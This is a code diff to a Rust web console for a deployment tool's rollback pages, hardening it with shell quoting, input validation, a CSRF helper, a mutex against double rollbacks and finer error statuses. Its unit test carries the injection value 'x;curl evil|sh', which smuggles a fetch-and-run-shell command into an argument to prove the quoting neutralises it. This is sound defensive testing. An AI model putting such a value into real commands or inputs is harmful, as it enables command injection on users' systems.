@@ -18,7 +18,7 @@ use maud::{Markup, html};
 use serde::Deserialize;
 
 use super::graph::{self, Vertex};
-use super::layout::{Page, Section, badge, commit, entity_href, instant};
+use super::layout::{Page, Section, badge, commit, csrf_field, entity_href, instant, plan_href};
 use super::overview::subject;
 use super::{Posted, Refusal, Shared, Viewer, checked_form, encode, refused, store_failed};
 use crate::reconcile::rollback::{self, Target};
@@ -201,7 +201,7 @@ pub async fn history(
         h1 { (kind.as_str()) " " (name) " " span.muted { "in " (project) } }
         @if let Some(description) = &description { p.description { (description) } }
         @if kind == Kind::LaunchPlan {
-            p { a href={ "/launchplans/" (encode(&project)) "/" (encode(&name)) } { "Schedule, next runs and recent runs" } }
+            p { a href=(plan_href(&project, &name)) { "Schedule, next runs and recent runs" } }
         }
         p.muted { "Every version ever registered, newest first. A version is its content's digest: the same content is the same version whatever commit brings it back." }
         form method="get" action=(diff_action) {
@@ -245,7 +245,7 @@ pub async fn history(
                 div.actions { button type="submit" { "Compare the two versions" } }
             }
         }
-        @if let Some(commit) = &query.rolledback {
+        @if let Some(commit) = query.rolledback.as_ref().filter(|c| (7..=40).contains(&c.len()) && c.bytes().all(|b| b.is_ascii_hexdigit())) {
             p.notice role="status" { "Committed " code { (commit) } ": the daemon reconciles it as any commit, and the version it restores becomes active." }
         }
         @if versions.iter().any(|v| !v.active) && versions.iter().any(|v| v.active) {
@@ -274,10 +274,11 @@ pub async fn history(
 /// checkout of the repository.
 fn rollback_command(project: &str, kind: Kind, name: &str, version: &str) -> String {
     format!(
-        "weir rollback {} --kind {} --project {} --to {version} --push",
+        "weir rollback {} --kind {} --project {} --to {} --push",
         shell_word(name),
         kind.as_str(),
-        shell_word(project)
+        shell_word(project),
+        shell_word(version)
     )
 }
 
@@ -461,14 +462,6 @@ pub async fn confirm_rollback(
         Ok(found) => found,
         Err(page) => return page.into_response(),
     };
-    if !viewer.can_act() || state.rollback.is_none() {
-        return rollback_refused(
-            StatusCode::FORBIDDEN,
-            "This daemon does not write rollbacks (it needs an API token and --console-rollback commit or push).",
-            &viewer,
-            (&project, kind, &name, &query.to),
-        );
-    }
     let (Some(current), Some(target)) = (
         versions.iter().find(|v| v.active),
         versions.iter().find(|v| v.version == query.to),
@@ -482,6 +475,14 @@ pub async fn confirm_rollback(
             &viewer,
         );
     };
+    if !viewer.can_act() || state.rollback.is_none() {
+        return rollback_refused(
+            StatusCode::FORBIDDEN,
+            "This daemon does not write rollbacks (it needs an API token and --console-rollback commit or push).",
+            &viewer,
+            (&project, kind, &name, &target.version),
+        );
+    }
     let entity = EntityRef::new(&project, kind, &name);
     let diff = match views::version_diff(
         state.store.as_ref(),
@@ -506,7 +507,7 @@ pub async fn confirm_rollback(
             Some(text) => { (unified(text)) }
         }
         form.actions method="post" action={ (entity_href(&project, kind.as_str(), &name)) "/rollback" } {
-            input type="hidden" name="csrf" value=(viewer.csrf.clone().unwrap_or_default());
+            (csrf_field(&viewer))
             input type="hidden" name="to" value=(target.version);
             button.danger type="submit" { "Commit the rollback" }
             a href=(entity_href(&project, kind.as_str(), &name)) { "Back" }
@@ -607,6 +608,12 @@ pub async fn rollback(
     let state_dir = writer.state_dir.clone();
     let branch = handle.branch.clone();
     let written = tokio::task::spawn_blocking(move || {
+        // One rollback at a time: two at once (a double click) would each
+        // commit on the head they read, the second undoing the first.
+        static WRITING: std::sync::Mutex<()> = std::sync::Mutex::new(());
+        let _one = WRITING
+            .lock()
+            .unwrap_or_else(std::sync::PoisonError::into_inner);
         let source =
             GitSource::open(&spec, &state_dir).map_err(|e| rollback::Error::Git(e.into()))?;
         let push = writer.push.then_some(&spec.credentials);
@@ -633,8 +640,32 @@ pub async fn rollback(
         }
         Ok(Err(e)) => {
             tracing::warn!(error = %e, "console: rollback not written");
-            rollback_refused(StatusCode::CONFLICT, &e.to_string(), &viewer, asked)
+            let status = match e {
+                rollback::Error::Refused(_) => StatusCode::CONFLICT,
+                rollback::Error::NotFound(_) => StatusCode::NOT_FOUND,
+                rollback::Error::Store(_) | rollback::Error::Git(_) => {
+                    StatusCode::INTERNAL_SERVER_ERROR
+                }
+            };
+            rollback_refused(status, &e.to_string(), &viewer, asked)
         }
         Err(e) => store_failed(&e, &viewer),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn the_rollback_command_quotes_every_word_it_did_not_write() {
+        assert_eq!(
+            rollback_command("etl", Kind::Task, "load", "0123456789ab"),
+            "weir rollback load --kind Task --project etl --to 0123456789ab --push"
+        );
+        assert_eq!(
+            rollback_command("my team", Kind::Task, "it's", "x;curl evil|sh"),
+            "weir rollback 'it'\\''s' --kind Task --project 'my team' --to 'x;curl evil|sh' --push"
+        );
     }
 }
